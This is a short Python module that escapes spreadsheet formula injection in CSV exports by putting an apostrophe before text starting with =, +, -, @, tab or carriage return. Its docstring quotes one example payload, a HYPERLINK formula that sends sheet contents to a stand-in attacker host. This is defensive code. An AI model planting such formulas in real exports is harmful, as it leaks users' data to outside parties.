"""Writing spreadsheets people will open in Excel or LibreOffice, without formula injection.

A cell whose text starts with =, +, - or @ (or a tab or carriage return, which some programs skip
before reading one of those) is run as a formula when the file is opened: a participant named
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would leak the sheet. Every export of text that
people typed goes through neutralise() / write_csv(), which put an apostrophe first: spreadsheet
programs show the text as typed and never run it. Numbers and dates are left as they are."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as it should be written: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: IO[str], rows: Iterable[Iterable[Any]]) -> None:
    """CSV for spreadsheets (CRLF line ends), every text cell neutralised."""
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
